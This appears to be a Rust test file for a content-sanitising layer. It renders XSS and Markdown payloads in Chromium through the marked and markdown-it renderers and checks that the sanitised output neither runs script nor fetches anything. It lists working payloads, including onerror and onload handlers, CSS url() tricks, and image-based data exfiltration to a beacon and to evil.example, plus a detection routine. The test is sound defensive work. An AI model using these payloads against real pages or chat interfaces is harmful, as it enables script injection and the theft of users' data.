//! What is left of active markup, in a real browser (control 1.4): handed to it as a page, and rendered by
//! two Markdown renderers that let HTML through. No script runs and nothing is asked for. The same texts as
//! they were do run and do ask, or this would show nothing.

use anyhow::{Context as _, Result};
use bytes::Bytes;
use http::{HeaderValue, Request, Response};
use http_body_util::Full;
use hyper::body::Incoming;
use hyper::service::service_fn;
use hyper_util::rt::TokioIo;
use ringwall_tests::chromium::{Chromium, Person};
use ringwall_tests::mcp::text;
use ringwall_tests::place;
use ringwall_tests::world::{Plan, World};
use serde_json::json;
use std::convert::Infallible;
use std::net::Ipv4Addr;
use std::sync::{Arc, Mutex, PoisonError};
use tokio::net::TcpListener;
use tokio::task::JoinHandle;
use url::Url;

/// Texts that do something by themselves: `BEACON` is an address that tells when it is asked for, `DATA`
/// something that no honest image carries.
const ATTACKS: &[&str] = &[
    "<script>fetch('BEACON')</script>",
    "<script src='BEACON'></script>",
    "<img src=x onerror=\"fetch('BEACON')\">",
    "<img src=x/onerror=fetch('BEACON')>",
    "<img alt=\">\" src=x onerror=\"fetch('BEACON')\">",
    "<svg onload=\"fetch('BEACON')\"></svg>",
    "<svg><script>fetch('BEACON')</script></svg>",
    "<details open ontoggle=\"fetch('BEACON')\">a</details>",
    "<iframe src='BEACON'></iframe>",
    "<iframe srcdoc=\"<script>fetch('BEACON')</script>\"></iframe>",
    "<object data='BEACON'></object>",
    "<embed src='BEACON'>",
    "<link rel=stylesheet href='BEACON'>",
    "<style>@import 'BEACON';</style>",
    "<style>body{background:url('BEACON')}</style>",
    "<p style=\"background:url('BEACON')\">a</p>",
    "<p style=\"background:\\75rl('BEACON')\">a</p>",
    "<img src='BEACON?q=DATA'>",
    "<img srcset='BEACON?q=DATA 1x'>",
    "<video poster='BEACON?q=DATA'></video>",
    "<svg><image href='BEACON?q=DATA'/></svg>",
    "<table background='BEACON?q=DATA'><tr><td>a</td></tr></table>",
    "<div title=\"\n\nb\n\n<p>\n\" onpointerrawupdate=a style=\"background:url('BEACON')\">\n",
    "<div>\n```\n<img src=x onerror=\"fetch('BEACON')\">\n```\n</div>",
    "- a\n  ```\n<img src=x onerror=\"fetch('BEACON')\">\n  ```",
    "a `\nb `<img src=x onerror=\"fetch('BEACON')\">` c",
    "| ` | <img src=x onerror=\"fetch('BEACON')\"> | ` |\n|---|---|---|\n",
    "<a title=\"`\"> <img src=x onerror=\"fetch('BEACON')\"> `",
];

/// Those that only Markdown knows.
const MARKDOWN: &[&str] = &[
    "![a](BEACON?q=DATA)",
    "![a](<BEACON?q=DATA> \"t\")",
    "![a][b]\n\n[b]: BEACON?q=DATA",
    "![b]\n\n[b]: <BEACON?q=DATA>",
    "[![a](BEACON?q=DATA)](https://docs.example/)",
    "![a [b] c](BEACON?q=DATA)",
    "![a `[` b](BEACON?q=DATA)",
];

const DATA: &str = "QUtJQUlPU0ZPRE5ON0VYQU1QTEU6d0phbHJYVXRuRkVNSS9LN01ERU5H";

/// A place that shows pages and knows which beacons were asked for.
struct Host {
    url: Url,
    task: JoinHandle<()>,
    seen: Arc<Mutex<Seen>>,
}

#[derive(Default)]
struct Seen {
    page: String,
    /// Counts the pages: what a page asks for says which one it is of.
    number: usize,
    beacons: usize,
}

impl Host {
    async fn start() -> Result<Host> {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).await?;
        let url = format!("http://{}/", listener.local_addr()?).parse()?;
        let seen = Arc::new(Mutex::new(Seen::default()));
        let shared = Arc::clone(&seen);
        let task = tokio::spawn(async move {
            while let Ok((socket, _)) = listener.accept().await {
                let seen = Arc::clone(&shared);
                let service = service_fn(move |request| answer(Arc::clone(&seen), request));
                tokio::spawn(async move {
                    let server = hyper::server::conn::http1::Builder::new();
                    // A browser that hangs up is no concern of this one.
                    let _ = server.serve_connection(TokioIo::new(socket), service).await;
                });
            }
        });
        Ok(Host { url, task, seen })
    }

    fn seen(&self) -> std::sync::MutexGuard<'_, Seen> {
        self.seen.lock().unwrap_or_else(PoisonError::into_inner)
    }

    /// Shows this page, and says how often a beacon was asked for.
    async fn shows(&self, person: &Person, page: String) -> Result<usize> {
        let number = self.seen().number + 1;
        *self.seen() = Seen {
            page,
            number,
            beacons: 0,
        };
        person
            .open(&self.url.join(&format!("page?{number}"))?)
            .await?;
        // What is asked for to draw it has been asked for when it was drawn, what fails has failed when every
        // image says so, and what it runs has asked when another answer is there that was asked for later.
        let settled = "new Promise((drawn) => requestAnimationFrame(() => requestAnimationFrame(drawn)))\
                       .then(() => Promise.all([...document.images].map((it) => it.decode().catch(() => 0))))\
                       .then(() => fetch('/last')).then(() => fetch('/last')).then(() => 'settled')";
        person.run(settled).await?;
        Ok(self.seen().beacons)
    }
}

impl Drop for Host {
    fn drop(&mut self) {
        self.task.abort();
    }
}

async fn answer(
    seen: Arc<Mutex<Seen>>,
    request: Request<Incoming>,
) -> Result<Response<Full<Bytes>>, Infallible> {
    let script = |path: &str| {
        let file = place::installed(path).and_then(|path| Ok(std::fs::read(path)?));
        Bytes::from(file.unwrap_or_default())
    };
    let (kind, body) = match request.uri().path() {
        "/page" => {
            let page = seen
                .lock()
                .unwrap_or_else(PoisonError::into_inner)
                .page
                .clone();
            ("text/html; charset=utf-8", Bytes::from(page))
        }
        "/beacon" => {
            let mut seen = seen.lock().unwrap_or_else(PoisonError::into_inner);
            let from = request.headers().get("referer");
            let from = from.and_then(|it| it.to_str().ok()).unwrap_or_default();
            // What the page before this one asked for may come as late as this.
            let of_another =
                from.contains("/page?") && !from.ends_with(&format!("?{}", seen.number));
            seen.beacons += usize::from(!of_another);
            ("text/plain", Bytes::new())
        }
        "/marked.js" => (
            "text/javascript",
            script("node_modules/marked/lib/marked.esm.js"),
        ),
        "/markdown-it.js" => (
            "text/javascript",
            script("node_modules/markdown-it/dist/browser/markdown-it.umd.min.js"),
        ),
        _ => ("text/plain", Bytes::new()),
    };
    let mut response = Response::new(Full::new(body));
    let kind = HeaderValue::from_static(kind);
    response.headers_mut().insert("content-type", kind);
    Ok(response)
}

/// The pages that show a text: as it is, and as two renderers make it HTML.
fn pages(text: &str, is_markdown: bool) -> Result<Vec<(&'static str, String)>> {
    // Nothing in a script ends it.
    let spelled = serde_json::to_string(text)?.replace('<', "\\u003c");
    let rendered = |load: &str, make: &str| {
        format!(
            "<!doctype html><body><div id=out></div>{load}<script type=module>{make}\n\
             const frame = document.createRange().createContextualFragment(html({spelled}));\n\
             document.getElementById('out').append(frame);</script>"
        )
    };
    let mut pages = vec![
        (
            "marked",
            rendered(
                "",
                "import { marked } from '/marked.js'; const html = (it) => marked.parse(it);",
            ),
        ),
        (
            "markdown-it",
            rendered(
                "<script src='/markdown-it.js'></script>",
                "const html = (it) => markdownit({ html: true, linkify: true }).render(it);",
            ),
        ),
    ];
    if !is_markdown {
        pages.push(("a browser", format!("<!doctype html><body>{text}")));
    }
    Ok(pages)
}

#[tokio::test(flavor = "multi_thread")]
async fn n1_4_nothing_runs_and_nothing_is_asked_for_in_a_real_browser() -> Result<()> {
    let output = json!({ "markup": "neutralise", "images": "neutralise", "links": "neutralise" });
    let plan = Plan::default().route(json!({ "content": { "output": output } }));
    let world = World::start(plan).await?;
    let client = world.client("alice").await?;
    let host = Host::start().await?;
    let beacon = host.url.join("beacon")?;
    let browser = Chromium::start().await?;
    let person = browser.of("alice");
    let attacks = ATTACKS.iter().map(|it| (*it, false));
    let mut alive = 0;
    for (attack, is_markdown) in attacks.chain(MARKDOWN.iter().map(|it| (*it, true))) {
        let attack = attack
            .replace("BEACON", beacon.as_str())
            .replace("DATA", DATA);
        let answer = client.call("echo", json!({ "text": attack })).await?;
        let left = text(&answer);
        // In code a browser runs what a renderer shows: that is not what it was handed as.
        let has_code = attack.contains('`');
        let mut ran = 0;
        for (reader, page) in pages(&attack, is_markdown)? {
            ran += host.shows(&person, page).await.with_context(|| reader)?;
        }
        alive += usize::from(ran > 0);
        for (reader, page) in pages(&left, is_markdown || has_code)? {
            let asked = host.shows(&person, page).await.with_context(|| reader)?;
            assert_eq!(asked, 0, "{reader} asks: {attack}\nleft: {left}");
        }
    }
    let all = ATTACKS.len() + MARKDOWN.len();
    assert!(
        alive * 10 >= all * 8,
        "{alive} of {all} attacks are alive: this shows nothing"
    );
    Ok(())
}

/// What texts are made of at random: markup, and whatever renderers differ about.
const PIECES: &[&str] = &[
    "<",
    ">",
    "</",
    "<!--",
    "-->",
    "<script>x()</script>",
    "<img src=x onerror=a()>",
    "<a ",
    "<div>",
    "</div>",
    "<div title=",
    "<div title=\"",
    "<pre>",
    "</pre>",
    "<form action=a>",
    "<iframe src=a>",
    "src=",
    "onerror=a()",
    " onclick=a() ",
    "style=",
    "\"",
    "'",
    "=",
    " ",
    "\n",
    "\n\n",
    "`",
    "``",
    "\n```\n",
    "\n```html\n",
    "\n~~~\n",
    "\n    ",
    "\n  ",
    "- ",
    "\n- ",
    "\n> ",
    "\n1. ",
    " | ",
    "\n|---|---|\n",
    "[",
    "![",
    "](",
    "]: ",
    "\n[a]: ",
    "![a]",
    ")",
    "(",
    "javascript:b()",
    "java&#115;cript:b()",
    "https://evil.example/?q=DATA",
    "<https://a.example/>",
    "\\",
    "\t",
    "a b",
    "\n# ",
    "\n---\n",
    "<b>",
    "<p>",
    "<!",
    "<?",
    "<![CDATA[",
    "<table>",
    "<textarea>",
    "<style>",
    "<svg>",
    "<b x=\"",
    "<b x='`'>",
    "\\`",
    "\r\n",
    "[^1]: ",
];

/// Texts of such pieces: the same for the same seed.
fn texts(seed: u64, count: usize) -> Vec<String> {
    let mut state = seed;
    let mut below = |most: usize| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        usize::try_from(state % 1_000_003).unwrap_or_default() % most
    };
    let mut text = || -> String {
        let length = 3 + below(24);
        (0..length)
            .filter_map(|_| PIECES.get(below(PIECES.len())))
            .copied()
            .collect()
    };
    (0..count).map(|_| text().replace("DATA", DATA)).collect()
}

/// What a browser's own parser finds in what two renderers make of each text: whatever would run, load
/// another document, send something, or carry data out.
const JUDGE: &str = r"
const judge = (html) => {
  const page = new DOMParser().parseFromString('<!doctype html><body>' + html, 'text/html');
  const bad = [];
  for (const node of page.querySelectorAll('*')) {
    const name = node.localName;
    const attributes = [...node.attributes];
    if (['script', 'style'].includes(name)) bad.push(name);
    if (['iframe', 'form'].includes(name) && attributes.some((it) => it.value)) bad.push(name);
    for (const { name, value } of attributes) {
      const plain = value.replace(/[\t\n\r]/g, '').trimStart();
      if (/^on[a-z]{3,}$/.test(name)) bad.push(name);
      if (['href', 'src', 'action'].includes(name) && /^javascript:/i.test(plain)) bad.push(value);
      if (name === 'src' && /^https?:.*evil.*QUtJ/.test(plain)) bad.push(value);
    }
  }
  return bad;
};
const renderers = [(it) => window.marked.parse(it), (it) => markdownit({ html: true, linkify: true }).render(it)];
return texts.map((text) => renderers.flatMap((render) => {
  try { return judge(render(text)); } catch { return []; }
}));";

#[tokio::test(flavor = "multi_thread")]
async fn n1_4_no_renderer_makes_anything_active_of_random_markup() -> Result<()> {
    let output = json!({ "markup": "neutralise", "images": "neutralise", "links": "neutralise" });
    let limits = json!({ "source": { "rate": "100000/s" }, "user": { "rate": "100000/s" },
        "session": { "rate": "100000/s" }, "tool": { "rate": "100000/s" } });
    let plan = Plan::default().route(json!({ "content": { "output": output }, "limits": limits }));
    let world = World::start(plan).await?;
    let client = world.client("alice").await?;
    let host = Host::start().await?;
    let browser = Chromium::start().await?;
    let person = browser.of("alice");
    let page = "<!doctype html><script src='/markdown-it.js'></script>\
                <script type=module>import { marked } from '/marked.js'; window.marked = marked</script>";
    host.shows(&person, page.to_owned()).await?;
    let seed = 0x9e37_79b9_7f4a_7c15;
    let given = texts(seed, 400);
    let mut left = Vec::new();
    for words in &given {
        left.push(text(&client.call("echo", json!({ "text": words })).await?));
    }
    let judged = async |texts: &[String]| -> Result<Vec<Vec<String>>> {
        let script = format!("(() => {{ const texts = {}; {JUDGE} }})()", json!(texts));
        Ok(serde_json::from_value(person.run(&script).await?)?)
    };
    let alive = judged(&given)
        .await?
        .iter()
        .filter(|bad| !bad.is_empty())
        .count();
    assert!(
        alive > 40,
        "{alive} of the texts are active: this shows nothing"
    );
    for ((bad, left), given) in judged(&left).await?.iter().zip(&left).zip(&given) {
        assert!(
            bad.is_empty(),
            "seed {seed}: {bad:?} in {left:?}, which was {given:?}"
        );
    }
    Ok(())
}
